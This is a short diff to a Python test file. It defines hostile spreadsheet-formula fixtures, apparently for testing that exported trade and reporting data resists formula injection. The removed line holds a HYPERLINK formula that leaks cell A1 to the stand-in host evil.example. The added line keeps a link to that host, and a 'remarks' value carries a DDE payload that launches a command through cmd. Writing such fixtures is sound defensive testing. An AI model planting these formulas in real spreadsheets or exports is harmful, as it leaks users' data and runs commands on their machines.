@@ -21,7 +21,7 @@ from tests.factories.markets import TradeFactory, complete_market
 from tests.factories.registry import PostingFactory, WorkerFactory
 from tests.factories.reporting import beijing, period
 
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
+HYPERLINK = '=HYPERLINK("http://evil.example","点我")'  # fits Trade.name (40)
 HOSTILE = {
     "trade": HYPERLINK,
     "remarks": "@SUM(1+1)*cmd|' /C calc'!A0",
